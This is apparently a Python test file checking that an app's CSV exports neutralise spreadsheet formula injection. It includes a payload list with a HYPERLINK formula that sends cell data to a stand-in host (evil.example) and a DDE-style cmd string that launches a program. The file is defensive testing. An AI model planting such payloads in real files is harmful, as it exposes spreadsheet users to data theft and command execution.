"""Every CSV the app serves comes from one writer that no spreadsheet can be made to run
(server/core/csvfile.py). The routes are taken from the app itself, so a new CSV is covered at once."""

from __future__ import annotations

import csv
import io

from litestar.testing import AsyncTestClient
from sqlalchemy import text

from server.app import create_app
from server.core.csvfile import FORMULA_STARTS, csv_bytes, neutralise
from server.core.db import Database
from tests.conftest import sign_in
from tests.factories import PASSWORD
from tests.test_scoring_example import build_example

MONTH = "2026-03"
# What a user (or an imported register) may type, each starting a formula in some spreadsheet.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
# Query strings that make each CSV route answer with the text above in it.
QUERIES = {
    "/api/defects.csv": [""],
    "/api/work-orders.csv": [""],
    "/scores/{month:str}/scores.csv": [""],
    "/scores/{month:str}/evidence.csv": ["?scope=site&part=assets", "?scope=site&part=orders"],
    "/reports/week/{week:str}/report.csv": [""],  # the weekly report (server/rounds/report.py)
}
WEEK = "2026-W11"  # a week of MONTH


def csv_routes() -> list[str]:
    app = create_app(database_url="sqlite+aiosqlite:///:memory:")
    return sorted({r.path for r in app.routes if r.path.endswith(".csv")})


def test_the_writer_neutralises_every_formula_start_and_leaves_numbers() -> None:
    for payload in PAYLOADS + ["=", "+", "-", "@"]:
        assert neutralise(payload) == "'" + payload
    assert neutralise(-118.7) == -118.7 and neutralise("118.7") == "118.7" and neutralise("a=b") == "a=b"
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[p] for p in PAYLOADS]).decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_every_csv_route_is_known_here() -> None:
    """A CSV route added without a query here fails: it must be checked below too."""
    assert csv_routes() == sorted(QUERIES)


async def test_no_csv_route_serves_a_cell_that_starts_a_formula(client: AsyncTestClient, database: Database) -> None:
    await build_example(database)
    names = iter(PAYLOADS * 50)
    async with database.session() as s:
        # Every text a user or an import writes and a CSV shows, set to a formula.
        for table, column in (("assets", "name"), ("zones", "name_zh"), ("zones", "name_en"), ("contractors", "name"),
                              ("defects", "dismissed_reason"), ("work_orders", "return_reason"),
                              ("work_orders", "cancel_reason"), ("work_orders", "due_change_reason")):
            keys = (await s.execute(text(f"SELECT id FROM {table}"))).scalars().all()
            for key in keys:
                await s.execute(text(f"UPDATE {table} SET {column} = :v WHERE id = :k"), {"v": next(names), "k": key})
        for key in (await s.execute(text("SELECT id FROM work_orders"))).scalars().all():
            await s.execute(text("UPDATE work_orders SET code = :v WHERE id = :k"), {"v": f"={key!s:.8}", "k": key})
    await sign_in(client, "boss", PASSWORD)
    checked = 0
    for route in csv_routes():
        for query in QUERIES[route]:
            url = route.replace("{month:str}", MONTH).replace("{week:str}", WEEK) + query
            answer = await client.get(url)
            assert answer.status_code == 200, f"{url}: {answer.status_code} {answer.text[:200]}"
            content_type = answer.headers["content-type"]
            assert content_type.startswith("text/csv") and content_type.count("charset") == 1, (url, content_type)
            cells = [c for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for c in row]
            dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
            assert not dangerous, f"{url}: {dangerous[:5]}"
            quoted = [c for c in cells if c[:1] == "'" and c[1:].startswith(FORMULA_STARTS)]
            assert quoted, f"{url}: the formulas set above did not reach the file, so nothing was checked"
            checked += 1
    assert checked == 6

